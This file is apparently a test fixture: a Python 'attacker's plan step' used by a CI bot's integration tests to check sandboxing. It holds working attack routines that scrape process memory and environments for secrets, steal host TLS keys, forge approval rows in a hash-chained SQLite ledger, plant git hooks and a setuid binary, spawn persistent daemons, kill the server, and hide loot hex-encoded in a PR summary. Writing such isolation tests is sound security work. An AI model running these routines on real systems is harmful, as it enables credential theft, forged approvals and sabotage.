"""An attacker's plan step, committed by tests/it/scenarios/attacks.rs as ci/attack.py
next to ci/attack.json (what to try, with the host's paths, pids and ports
baked in, as an attacker who looked would have them). ci/plan.py calls
`plan(main, argv)`: the attacks named in attack.json run for one member, the
real plan is written, and whatever was taken goes into the plan's summary,
where a pull request's author would read it in the bot's comment.

Everything taken is printed and smuggled as `LOOT <what> <hex>` (hex gets
past any redaction); every attempt is wrapped, so the plan goes on whatever
happens. The test never believes these lines: it checks the host, the
forge and the server from outside. Standard library only.
"""

import hashlib
import json
import os
import re
import signal
import socket
import sqlite3
import subprocess
import sys
import time

HERE = os.path.dirname(os.path.abspath(__file__))
MAX = 4096


class Loot:
    def __init__(self):
        self.lines = []

    def say(self, line):
        print(line, flush=True)
        self.lines.append(line)

    def got(self, what, data):
        if isinstance(data, str):
            data = data.encode()
        self.say(f"LOOT {what} {data[:MAX].hex()}")

    def got_file(self, what, data):
        self.got(what, data[:256])
        self.say(f"LOOT {what} sha256 {hashlib.sha256(data).hexdigest()}")

    def attempt(self, what, action):
        try:
            action()
        except Exception as e:  # the attacker shrugs and goes on
            self.say(f"attack {what}: blocked: {type(e).__name__}: {e}")


def read(path, limit=1 << 20):
    with open(path, "rb") as f:
        return f.read(limit)


# 1. The server's environment and memory, every process's command line.

def processes(cfg, loot):
    """Reads every command line there is; takes those of servers, with their
    environments."""
    pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    loot.say(f"attack processes: {len(pids)} visible")
    taken = 0
    for pid in pids:
        try:
            cmdline = read(f"/proc/{pid}/cmdline")
        except OSError:
            continue
        if b"\0serve" in cmdline and taken < 4:
            taken += 1
            loot.got(f"cmdline-{pid}", cmdline[:256])
            try:
                loot.got(f"environ-{pid}", read(f"/proc/{pid}/environ"))
            except OSError:
                pass


def server_environ(cfg, loot):
    loot.got("server-environ", read(f"/proc/{cfg['server_pid']}/environ"))


def server_memory(cfg, loot):
    pid = cfg["server_pid"]
    wanted = [b"WAVEGATE_GITHUB_WEBHOOK_SECRET=", b"PRIVATE KEY-----", b"github-webhook"]
    found = 0
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
        for line in maps:
            fields = line.split()
            if not fields[1].startswith("r"):
                continue
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if end - start > 64 << 20:
                continue
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except OSError:
                continue
            for needle in wanted:
                at = chunk.find(needle)
                if at >= 0:
                    loot.got(f"server-memory-{found}", chunk[at:at + 160])
                    found += 1
    loot.say(f"attack server-memory: {found} finds")


def descriptors(cfg, loot):
    """Anything the server left open across the exec (its database, a socket)."""
    for fd in sorted(int(f) for f in os.listdir("/proc/self/fd")):
        if fd <= 2:
            continue
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        loot.say(f"attack descriptors: fd {fd} -> {target}")
        try:
            loot.got(f"fd-{fd}", os.pread(fd, 256, 0))
        except OSError:
            pass


# 1b. What only root may read or write, which the server's user may be:
# the host's TLS private keys, and a global kernel setting (printk's rate
# limit: harmless, and put back by the test should it ever change).

PRIVATE_DIRS = ["/etc/ssl/private", "/etc/pki/tls/private", "/etc/pki/CA/private"]


def host_keys(cfg, loot):
    for root in PRIVATE_DIRS:
        def steal(root=root):
            for name in os.listdir(root):
                loot.got_file(f"host-key {name}", read(os.path.join(root, name)))
        loot.attempt(f"host keys {root}", steal)


def kernel(cfg, loot):
    path = "/proc/sys/kernel/printk_ratelimit"

    def direct():
        with open(path) as f:
            value = int(f.read())
        with open(path, "w") as f:
            f.write(f"{value + 1}\n")
        loot.say(f"attack kernel: {path} {value} -> {value + 1}")
    loot.attempt("kernel setting", direct)

    def nested():
        """A user namespace of its own, where it is root, and a /proc of its own."""
        done = subprocess.run(
            ["unshare", "--user", "--map-root-user", "--pid", "--fork", "--mount", "--mount-proc",
             "sh", "-c", f"echo $(( $(cat {path}) + 1 )) > {path}"],
            capture_output=True, text=True)
        if done.returncode != 0:
            raise OSError(done.stderr.strip())
        loot.say("attack kernel: written from a nested namespace")
    loot.attempt("kernel setting, nested", nested)


# 2. The App key, the server's HOME, the data dir and its mirrors.

def files(cfg, loot):
    for name, path in cfg["read"].items():
        def steal(name=name, path=path):
            loot.got_file(name, read(path))
        loot.attempt(f"read {name}", steal)


def listings(cfg, loot):
    for name, path in cfg["list"].items():
        def walk(name=name, path=path):
            names = []
            for root, dirs, found in os.walk(path):
                names.extend(os.path.join(root, n) for n in dirs + found)
            if not names and not os.path.isdir(path):
                raise FileNotFoundError(path)
            loot.got(f"list-{name}", "\n".join(names))
        loot.attempt(f"list {name}", walk)


# 3. The SQLite store: read it, append an approval chained like the bot's.

def canonical(value):
    return json.dumps(value, sort_keys=True, separators=(",", ":"), ensure_ascii=False)


def ledger(cfg, loot):
    """Approves the digest the report showed, as the bot records an approval:
    bound to the plan's head and base (from the bot's own tables; the head
    being planned is in the running job's payload), chained after the last
    fact of the repository."""
    forge = cfg["forge_approval"]
    db = sqlite3.connect(f"file:{cfg['database']}?mode=rw", uri=True, timeout=10)
    rows = db.execute("SELECT seq, kind, digest, actor_login FROM facts").fetchall()
    loot.got("ledger-facts", repr(rows))
    heads = {h for (h,) in db.execute(
        "SELECT head_sha FROM pull_requests WHERE number = ?", (forge["number"],))}
    for (payload,) in db.execute("SELECT payload FROM jobs WHERE status = 'running'"):
        heads.update(re.findall(r"\b[0-9a-f]{40}\b", payload))
    (base,) = db.execute(
        "SELECT base_sha FROM plans WHERE number = ? ORDER BY id DESC LIMIT 1",
        (forge["number"],)).fetchone()
    for head in sorted(heads):
        last = db.execute(
            "SELECT seq, hash FROM facts WHERE repo = ? ORDER BY seq DESC LIMIT 1",
            (forge["repo"],)).fetchone()
        seq, prev = (last[0] + 1, last[1]) if last else (1, "sha256:" + "0" * 64)
        fact = {
            "repo": forge["repo"], "gate": f"pr-{forge['number']}", "kind": "approved",
            "digest": forge["digest"], "actor": forge["actor"],
            "at": int(time.time() * 1000), "source": {"kind": "comment", "id": 990001},
            "data": {"base": base, "head": head},
        }
        content = dict(fact, seq=seq)
        digest = "sha256:" + hashlib.sha256((prev + canonical(content)).encode()).hexdigest()
        db.execute(
            "INSERT INTO facts (repo, seq, gate, kind, digest, actor_id, actor_login, at,"
            " source, data, prev, hash) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)",
            (fact["repo"], seq, fact["gate"], "approved", fact["digest"],
             fact["actor"]["id"], fact["actor"]["login"], fact["at"],
             canonical(fact["source"]), canonical(fact["data"]), prev, digest))
        db.commit()
        loot.say(f"attack ledger: appended seq {seq} for head {head}")


# 4. Another job's tree, while it plans.

def other_tree(cfg, loot):
    tree = cfg["other_tree"]
    loot.attempt("read other tree", lambda: loot.got_file(
        "other-tree", read(os.path.join(tree, "infra/app/holder-secret.txt"))))
    def plant():
        with open(os.path.join(tree, "planted-by-another-job"), "w") as f:
            f.write("planted")
    loot.attempt("write other tree", plant)
    loot.attempt("list /tmp", lambda: loot.got("tmp", "\n".join(os.listdir("/tmp"))))


# 5. Loopback and host services.

def connections(cfg, loot):
    for target in cfg["connect"]:
        def dial(target=target):
            if target.get("unix"):
                sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
                sock.settimeout(3)
                sock.connect("\0" + target["unix"])
            else:
                sock = socket.create_connection((target["host"], target["port"]), timeout=3)
            with sock:
                sock.sendall(target.get("send", "").encode())
                sock.settimeout(3)
                try:
                    loot.got(f"reply-{target['name']}", sock.recv(512))
                except OSError:
                    loot.say(f"attack connect {target['name']}: connected, no reply")
        loot.attempt(f"connect {target['name']}", dial)


# 6. A daemon that outlives the plan.

def daemons(cfg, loot):
    marker = cfg["daemon_marker"]
    sleeper = [sys.executable, "-c",
               "import signal, time\n"
               "for s in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):\n"
               "    signal.signal(s, signal.SIG_IGN)\n"
               "time.sleep(300)\n"]
    # setsid and a subshell's background job.
    subprocess.run(["setsid", "sh", "-c", f"({sys.executable} -c 'import time; time.sleep(300)' {marker}-setsid &)"],
                   check=True)
    # The classic double fork, ignoring hang-ups, without the estate in its
    # environment (so it is found by its name alone).
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve(sys.executable, sleeper + [f"{marker}-double-fork"], {"PATH": "/usr/bin:/bin"})
        os._exit(0)
    os.wait()
    loot.say("attack daemons: started")


# 7. Hooks in the bare mirror the server's own git uses.

HOOKS = ["post-checkout", "post-merge", "reference-transaction", "pre-auto-gc",
         "post-index-change", "push-to-checkout", "pre-receive", "post-update"]


def hooks(cfg, loot):
    mirror = cfg["mirror"]
    marker = cfg["hook_marker"]
    for hook in HOOKS:
        def plant(hook=hook):
            path = os.path.join(mirror, "hooks", hook)
            with open(path, "w") as f:
                f.write(f"#!/bin/sh\necho {hook} >> {marker}\n")
            os.chmod(path, 0o755)
        loot.attempt(f"hook {hook}", plant)
    def configure():
        with open(os.path.join(mirror, "config"), "a") as f:
            f.write(f"[core]\n\thooksPath = {mirror}/hooks\n[gc]\n\tauto = 1\n")
    loot.attempt("mirror config", configure)


# 9. The environment the plan was given.

def environment(cfg, loot):
    loot.got("environment", "\0".join(f"{k}={v}" for k, v in sorted(os.environ.items())))


# 10. The infrastructure's state, during a plan. (The network's and the
# database's: their outputs were read before this plan started, so even
# where the attack gets through, this plan stays what it was.)

def estate(cfg, loot):
    root = os.environ.get("ESTATE_DIR") or cfg["estate"]
    target = os.path.join(root, "dev", "network.json")

    def overwrite():
        with open(target, "w") as f:
            f.write('{"pwned": true}\n')
    loot.attempt("estate overwrite", overwrite)

    def replace():
        tmp = os.path.join(root, "dev", "network.json.attack")
        with open(tmp, "w") as f:
            f.write('{"pwned": true}\n')
        os.replace(tmp, target)
    loot.attempt("estate replace", replace)

    def create():
        with open(os.path.join(root, "planted-by-a-plan"), "w") as f:
            f.write("pwned\n")
    loot.attempt("estate create", create)
    loot.attempt("estate remove", lambda: os.remove(os.path.join(root, "dev", "database.json")))
    loot.attempt("estate chmod", lambda: os.chmod(target, 0o777))

    def remount():
        """Root of a user namespace of its own, remounting the estate writable."""
        done = subprocess.run(
            ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c",
             f"mount -o remount,bind,rw {root} && echo pwned > {root}/planted-by-a-remount"],
            capture_output=True, text=True)
        if done.returncode != 0:
            raise OSError(done.stderr.strip())
    loot.attempt("estate remount", remount)


# 11. Signals to the server, and to everyone.

def signals(cfg, loot):
    pid = cfg["server_pid"]
    loot.attempt("SIGTERM server", lambda: os.kill(pid, signal.SIGTERM))
    loot.attempt("SIGKILL server", lambda: os.kill(pid, signal.SIGKILL))
    loot.attempt("kill -TERM server", lambda: subprocess.run(["kill", "-TERM", str(pid)], check=True))
    # `kill -9 -1` is everyone this user may signal. Outside a pid namespace
    # of its own that would be every process of the server's user on the
    # host (the test machine too), so it is only sent where this plan has a
    # small pid (the host hands out none below 300 once it has wrapped) and
    # cannot see the server: elsewhere the server's death, which the test
    # catches, already tells the rest.
    if os.getpid() < 300 and not os.path.exists(f"/proc/{pid}"):
        loot.say("attack signals: kill -9 -1")
        sys.stdout.flush()
        os.kill(-1, signal.SIGKILL)


# 12b. A set-user-id copy of `id` in its own tree, for whoever on the host
# can reach it: run by another user, it says whose rights it had.

def setuid(cfg, loot):
    tree = os.path.dirname(HERE)
    path = os.path.join(tree, "ci", "escalate")
    with open("/usr/bin/id", "rb") as src, open(path, "wb") as dst:
        dst.write(src.read())
    os.chmod(path, 0o4755)
    loot.say(f"attack setuid: planted {path}")


# 12. Hold the tree until killed (the component's timeout).

def hold(cfg, loot):
    loot.say("attack hold: holding the tree until killed")
    subprocess.Popen([sys.executable, "-c", "import time; time.sleep(3600)"])
    while True:
        time.sleep(3600)


BEFORE = {
    "processes": processes, "server_environ": server_environ,
    "server_memory": server_memory, "descriptors": descriptors,
    "host_keys": host_keys, "kernel": kernel, "files": files,
    "listings": listings, "ledger": ledger, "other_tree": other_tree,
    "connections": connections, "daemons": daemons, "hooks": hooks,
    "environment": environment, "estate": estate, "setuid": setuid,
}


def smuggle(plan_file, loot):
    """The loot, as the last lines of the plan's summary."""
    with open(plan_file) as f:
        doc = json.load(f)
    doc["summary"] = doc.get("summary", "") + "\n\n" + "\n".join(loot.lines)
    with open(plan_file, "w") as f:
        json.dump(doc, f)


def link_plan_file(cfg, plan_file):
    os.remove(plan_file)
    os.symlink(cfg["plan_file_link"], plan_file)


def plan(main, argv):
    with open(os.path.join(HERE, "attack.json")) as f:
        cfg = json.load(f)
    member = os.environ.get("WAVEGATE_MEMBER", "")
    if member not in cfg["members"]:
        main(argv)
        return
    attacks = cfg["members"][member].get("attacks", cfg["attacks"])
    loot = Loot()
    done = []
    for name in attacks:
        if name in BEFORE:
            loot.attempt(name, lambda name=name: BEFORE[name](cfg, loot))
            done.append(name)
    loot.say(f"attacks done: {', '.join(done)}")
    if "hold" in attacks:
        hold(cfg, loot)
    main(argv)
    smuggle(argv[3], loot)
    if "plan_file_link" in attacks:
        link_plan_file(cfg["members"][member], argv[3])
    if "signals" in attacks:
        signals(cfg, loot)
